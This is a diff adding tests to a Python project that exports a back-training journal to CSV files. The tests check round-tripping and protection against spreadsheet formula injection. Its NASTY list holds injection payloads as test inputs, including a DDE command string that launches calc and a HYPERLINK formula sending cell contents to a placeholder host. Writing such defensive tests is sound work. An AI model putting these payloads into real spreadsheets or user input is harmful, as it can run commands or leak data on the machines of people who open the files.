@@ -4,13 +4,23 @@ from __future__ import annotations
 
 import csv
 import io
+from collections.abc import Callable, Iterator
+from dataclasses import replace
+from datetime import date, datetime
 from typing import TYPE_CHECKING
+from uuid import UUID
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from rygtraening.domain.exposure_record import Attempt, Lesson, OwnLadder
+from rygtraening.domain.record import AfterAnswers, SessionRecord, Stamp
+from rygtraening.domain.text import Text
+from rygtraening.domain.weekly_record import OwnActivity, SmallWin, WeekAnswers
 from rygtraening.exchange import tables
+from rygtraening.exchange.rows import answers, doses, exposure, training
+from rygtraening.exchange.rows.cell import Cell, Row
 
 if TYPE_CHECKING:
     from tests.exchange.conftest import FakeJournal
@@ -22,6 +32,26 @@ TABLES = {
     *("fears", "attempts", "own_ladders"),
     *("safety", "clearances", "profile"),
 }
+
+
+ROOMS = (training, doses, answers, exposure)
+"""Where the rows are made."""
+NASTY = (
+    "=1+1",
+    '=HYPERLINK("https://example.invalid?"&A1;"klik")',
+    "+45 12 34 56 78",
+    "-2 i dag",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r\n=cmd|' /C calc'!A0",
+    "\n=1+1",
+    "'=1+1",
+    "''",
+    "＝１＋１",
+    'med "citationstegn", komma; semikolon\nog en linje til\r\n',
+    "æøå … 🙂",
+    "  mellemrum  ",
+)
 
 
 def rows(journal: FakeJournal, table: str) -> list[dict[str, str]]:
@@ -185,3 +215,112 @@ def test_an_empty_journal_gives_tables_with_headers_only(empty_journal: FakeJour
     files, count = tables.files(empty_journal)
     assert count == 0
     assert all(b"," in content for content in files.values())
+
+
+def read(text: str, kind: str) -> Cell:
+    """A cell as a reader of the data dictionary takes it."""
+    if not text:
+        return None
+    match kind:
+        case "integer":
+            return int(text)
+        case "number":
+            return float(text)
+        case "boolean":
+            return {"true": True, "false": False}[text]
+        case "date":
+            return date.fromisoformat(text)
+        case "time":
+            return datetime.fromisoformat(text)
+        case _:
+            return text.removeprefix("'")
+
+
+def texts(journal: FakeJournal) -> dict[str, list[dict[str, str]]]:
+    """The cells of all tables as they stand in the files, the dictionary's too."""
+    files, _count = tables.files(journal)
+    return {
+        name.removesuffix(".csv"): list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+        for name, content in files.items()
+    }
+
+
+def read_back(journal: FakeJournal) -> dict[str, list[dict[str, Cell]]]:
+    """All tables, read by nothing but what the dictionary says."""
+    found = texts(journal)
+    kinds = {(row["table"], row["column"]): row["type"] for row in found.pop("data-dictionary")}
+    return {
+        table: [{column: read(text, kinds[table, column]) for column, text in row.items()} for row in each]
+        for table, each in found.items()
+    }
+
+
+def as_kept(journal: FakeJournal) -> dict[str, list[dict[str, Cell]]]:
+    """The journal's own values; an empty text is nothing."""
+    made: dict[str, Callable[[FakeJournal], Iterator[Row]]] = {
+        table: next(getattr(room, name) for room in ROOMS if hasattr(room, name))
+        for table, name in ((table, {"pain": "pains"}.get(table, table)) for table in TABLES)
+    }
+    return {
+        table: [{column: None if cell == "" else cell for column, cell in row.items()} for row in make(journal)]
+        for table, make in made.items()
+    }
+
+
+def written_by_somebody_nasty(journal: FakeJournal, text: str) -> None:
+    """``text`` wherever a person or an exercise file can write one."""
+    said = Text(text, text)
+
+    def anew(stamp: Stamp) -> Stamp:
+        return replace(stamp, id=UUID(int=stamp.id.int + 10_000), at=stamp.at.replace(hour=23))
+
+    for record in journal.facts(SessionRecord):
+        exercises = tuple(replace(each, exercise=text, name=said) for each in record.exercises[:1])
+        journal.append(
+            replace(record, stamp=anew(record.stamp), programme=text, programme_name=said, exercises=exercises)
+        )
+    for page in journal.facts(AfterAnswers):
+        journal.append(replace(page, stamp=anew(page.stamp), note=text, worst=((text, page.worst[0][1]),)))
+    for week in journal.facts(WeekAnswers):
+        journal.append(replace(week, stamp=anew(week.stamp), activities=(OwnActivity(text, 4),)))
+    for win in journal.facts(SmallWin):
+        journal.append(replace(win, stamp=anew(win.stamp), text=text))
+    for attempt in journal.facts(Attempt):
+        journal.append(replace(attempt, stamp=anew(attempt.stamp), activity=text, step=text, feared=text))
+    for lesson in journal.facts(Lesson):
+        journal.append(replace(lesson, stamp=anew(lesson.stamp), text=text))
+    for ladder in journal.facts(OwnLadder):
+        journal.append(replace(ladder, stamp=anew(ladder.stamp), name=text, steps=(text, text)))
+
+
+def test_every_table_comes_back_as_the_journal_has_it(journal: FakeJournal) -> None:
+    assert read_back(journal) == as_kept(journal)
+    assert all(as_kept(journal).values())
+
+
+@pytest.mark.parametrize("text", NASTY)
+def test_what_somebody_nasty_writes_is_no_formula_in_any_table_and_comes_back_whole(
+    text: str, journal: FakeJournal
+) -> None:
+    written_by_somebody_nasty(journal, text)
+    assert read_back(journal) == as_kept(journal)
+    cells = [cell for table in texts(journal).values() for row in table for cell in row.values()]
+    formulas = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+    assert [cell for cell in cells if cell.startswith(formulas)] == []
+    # programme and its names, the exercise in three tables, note, week, wins, attempts, lesson, ladder
+    assert [cell.removeprefix("'") for cell in cells].count(text) >= 20
+
+
+@pytest.mark.parametrize(
+    ("number", "text"), [(305.0, "305"), (12.5, "12.5"), (100 / 3, "33.3333333333333"), (0.0, "0")]
+)
+def test_a_number_has_no_more_digits_than_a_spreadsheet_holds(number: float, text: str) -> None:
+    assert tables.safe(number) == text
+    assert float(text) == pytest.approx(number, rel=1e-14)
+
+
+@given(text=st.text(min_size=1, max_size=30, alphabet=st.characters(exclude_categories=["Cs"])))
+def test_any_win_comes_back_through_the_file(text: str) -> None:
+    written = tables._csv(("text", "end"), [(text, "end")])
+    _header, (cell, end) = csv.reader(io.StringIO(written.decode("utf-8-sig"), newline=""))
+    assert (cell.removeprefix("'"), end) == (text, "end")
